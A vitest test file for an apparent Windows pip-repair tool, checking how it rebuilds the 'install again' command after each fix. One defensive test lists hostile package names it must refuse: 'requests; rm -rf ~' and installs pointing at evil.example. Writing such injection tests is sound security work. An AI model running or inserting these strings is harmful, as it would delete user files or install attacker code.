import { win32 } from 'node:path';
import { describe, expect, test } from 'vitest';
import { classifyLogText } from '../../../electron/engine/logClassifier';
import { buildRecipe } from '../../../electron/remedies/planning/buildRecipe';
import type { Recipe } from '../../../electron/remedies/planning/recipe';
import { rerunCommand } from '../../../electron/remedies/run-again/rerunCommand';
import type { RerunBasis } from '../../../electron/remedies/run-again/rerunCommand';
import type { Diagnosis } from '../../../electron/shared/model/diagnosis';
import { PROJECT, PYTHON, SITE, WINDOWS_DIAGNOSIS, windowsPlanContext } from './windowsScan';
import { refusalIn } from '../../support/refusal';
import { english } from '../../support/english';

/**
 * "Run my install again" after each fix: the command main builds from the
 * fix it ran (the real recipe the remedy's builder makes for a recorded
 * Windows scan) and the scan's log. The log's own command line names an
 * interpreter and pip.exe; neither may be what runs.
 */

/** The user ran pip.exe of another Python for requests; a dependency's file failed. */
const LOG = [
  String.raw`PS C:\Users\Ana> C:\Tools\Other\python.exe -m pip install requests`,
  'Collecting requests',
  '  Using cached requests-2.32.3-py3-none-any.whl (64 kB)',
  'Collecting charset-normalizer<4,>=2',
  'Installing collected packages: charset-normalizer, requests',
  `ERROR: Could not install packages due to an OSError: [WinError 5] Access is denied: '${SITE}\\charset_normalizer\\md.cp312-win_amd64.pyd'`,
  'Consider using the `--user` option or check the permissions.',
].join('\n');

const SCANNED: Diagnosis = { ...WINDOWS_DIAGNOSIS, log: classifyLogText(LOG) };

async function basisAfter(
  request: Parameters<typeof windowsPlanContext>[0],
  overrides: Partial<RerunBasis> = {},
): Promise<RerunBasis> {
  const recipe: Recipe = await buildRecipe(windowsPlanContext(request, SCANNED));
  return {
    recipe,
    scanned: SCANNED,
    plannedPackage: request.packageName,
    pipSourceArgs: [],
    ...overrides,
  };
}

describe('the install run again after each fix', () => {
  test('the log names requests (not the dependency that failed, nor its interpreter)', () => {
    expect(SCANNED.log?.requested).toBe('requests');
    expect(SCANNED.log?.interpreter).toBe(String.raw`C:\Tools\Other\python.exe`);
  });

  test('venv: the new environment’s own python -m pip, the package the user asked for', async () => {
    const venv = win32.join(PROJECT, '.venv');
    const rerun = rerunCommand(
      await basisAfter({
        remedy: 'venv',
        installId: 'py-0123456789ab',
        packageName: 'charset_normalizer',
      }),
    );
    expect(rerun.command).toEqual({
      program: `${venv}\\Scripts\\python.exe`,
      args: ['-m', 'pip', 'install', 'requests'],
      env: expect.objectContaining({ PIP_NO_INPUT: '1' }),
    });
    expect(rerun.packageName).toBe('requests');
    expect(english(rerun.where)).toBe(`in the new virtual environment ${venv}`);
    // PowerShell: the call operator and the apostrophe in the user name doubled.
    expect(rerun.commandLine).toBe(
      `& 'C:\\Users\\Ana O''Neil\\Documents\\my project\\.venv\\Scripts\\python.exe' -m pip install requests`,
    );
  });

  test('venv made without a package: the install goes into it all the same', async () => {
    const rerun = rerunCommand(await basisAfter({ remedy: 'venv', installId: 'py-0123456789ab' }));
    expect(rerun.command.program).toBe(`${win32.join(PROJECT, '.venv')}\\Scripts\\python.exe`);
    expect(rerun.command.args).toEqual(['-m', 'pip', 'install', 'requests']);
  });

  test('user-install: the scanned Python with --user', async () => {
    const rerun = rerunCommand(
      await basisAfter({
        remedy: 'user-install',
        installId: 'py-0123456789ab',
        packageName: 'requests',
      }),
    );
    expect(rerun.command.program).toBe(PYTHON);
    expect(rerun.command.args).toEqual(['-m', 'pip', 'install', '--user', 'requests']);
    expect(rerun.commandLine).toBe(
      `& 'C:\\Program Files\\Python312\\python.exe' -m pip install --user requests`,
    );
  });

  test.each(['close-processes', 'elevated-install', 'enable-long-paths'] as const)(
    '%s: python -m pip of the scanned install, never pip.exe or the log’s interpreter',
    async (remedy) => {
      const rerun = rerunCommand(
        await basisAfter({
          remedy,
          installId: 'py-0123456789ab',
          ...(remedy === 'elevated-install' ? { packageName: 'requests' } : {}),
          ...(remedy === 'close-processes'
            ? { processes: [{ pid: 8132, startTime: '2026-11-24T08:12:03.123Z' }] }
            : {}),
        }),
      );
      expect(rerun.command.program).toBe(PYTHON);
      expect(rerun.command.args).toEqual(['-m', 'pip', 'install', 'requests']);
      expect(rerun.commandLine).not.toContain('Other');
      expect(rerun.commandLine).not.toContain('pip.exe');
    },
  );

  test('where pip finds packages is main’s setting, shown as it runs', async () => {
    const rerun = rerunCommand(
      await basisAfter(
        { remedy: 'user-install', installId: 'py-0123456789ab', packageName: 'requests' },
        { pipSourceArgs: ['--no-index', '--find-links', 'C:\\wheels'] },
      ),
    );
    expect(rerun.command.args).toEqual([
      '-m',
      'pip',
      'install',
      '--user',
      '--no-index',
      '--find-links',
      'C:\\wheels',
      'requests',
    ]);
    expect(rerun.commandLine).toContain("--find-links 'C:\\wheels' requests");
  });

  test('without a log, the package the fix was planned for', async () => {
    const basis = await basisAfter({
      remedy: 'user-install',
      installId: 'py-0123456789ab',
      packageName: 'numpy',
    });
    const rerun = rerunCommand({ ...basis, scanned: { ...SCANNED, log: null } });
    expect(rerun.command.args.at(-1)).toBe('numpy');
  });

  test.each([
    'requests; rm -rf ~',
    '--index-url=https://evil.example/simple',
    '-e',
    '../requests',
    'requests==2.0',
    'requests @ https://evil.example/r.whl',
  ])('refuses %j: only a package name goes on the line', async (name) => {
    const basis = await basisAfter({
      remedy: 'user-install',
      installId: 'py-0123456789ab',
      packageName: 'requests',
    });
    expect(
      refusalIn(() =>
        rerunCommand({ ...basis, scanned: { ...SCANNED, log: null }, plannedPackage: name }),
      ),
    ).toMatch(/is not a package name/);
  });

  test('refuses when neither the log nor the plan names a package', async () => {
    const basis = await basisAfter({ remedy: 'venv', installId: 'py-0123456789ab' });
    expect(refusalIn(() => rerunCommand({ ...basis, scanned: { ...SCANNED, log: null } }))).toMatch(
      /does not know which package/,
    );
  });

  test('refuses when the Python the fix was for is gone from the scan', async () => {
    const basis = await basisAfter({
      remedy: 'user-install',
      installId: 'py-0123456789ab',
      packageName: 'requests',
    });
    expect(
      refusalIn(() => rerunCommand({ ...basis, scanned: { ...SCANNED, installs: [] } })),
    ).toMatch(/not in the scan any more/);
  });

  test('refuses after an undo', async () => {
    const basis = await basisAfter({
      remedy: 'user-install',
      installId: 'py-0123456789ab',
      packageName: 'requests',
    });
    const undo = {
      ...basis.recipe,
      plan: { ...basis.recipe.plan, undoOf: 'act-00000000000000b2' },
    };
    expect(refusalIn(() => rerunCommand({ ...basis, recipe: undo }))).toMatch(
      /nothing to install again/,
    );
  });
});
